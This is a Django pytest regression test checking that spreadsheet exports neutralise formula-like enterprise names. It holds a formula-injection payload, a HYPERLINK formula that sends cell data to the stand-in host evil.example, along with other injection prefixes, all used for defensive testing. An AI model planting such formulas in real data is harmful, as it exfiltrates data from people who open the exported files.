"""Defect 1 (issue 11): exports neutralise formula-like text and survive control characters.

A firm name imported as ``=HYPERLINK(...)`` by a county officer must not reach the city admin's
export as a live formula; a supervision title holding ``\\x01`` must not break the export.
"""

from __future__ import annotations

import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.test import Client

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'


def export_workbook(client: Client, user: Any, url: str) -> openpyxl.Workbook:
    client.force_login(user)
    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    content = response.content
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets  # no formula anywhere in the file
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("name", [HOSTILE_NAME, "+1", "-1+2", "@SUM(A1)", "\t=1"])
def test_enterprise_export_writes_formula_like_names_as_text(
    client: Client, city_admin: Any, make_enterprise: Any, name: str
) -> None:
    make_enterprise(region="511112", name=name)
    ws = export_workbook(client, city_admin, "/enterprises/").worksheets[0]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == name]
    assert cells, "the hostile name is in the export"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
